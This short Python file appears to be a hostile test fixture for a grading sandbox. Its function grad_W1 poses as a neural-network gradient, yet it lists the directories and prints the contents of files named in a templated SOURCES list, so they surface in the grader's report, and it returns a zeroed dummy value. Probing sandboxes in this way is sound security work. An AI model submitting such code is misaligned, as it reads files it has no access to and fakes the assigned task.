"""Hostile: copies whatever it can read of SOURCES into its output, where a grader's report would show it."""

import os

SOURCES = "@SOURCES@".split("|")


def grad_W1(X, Y, W1, b1, W2, b2):
    for source in SOURCES:
        try:
            if os.path.isdir(source):
                print("listing", source, os.listdir(source))
            else:
                with open(source, "rb") as handle:
                    print("read", source, handle.read(4000))
        except OSError as exc:
            print("could not read", source, type(exc).__name__)
    return W1 * 0
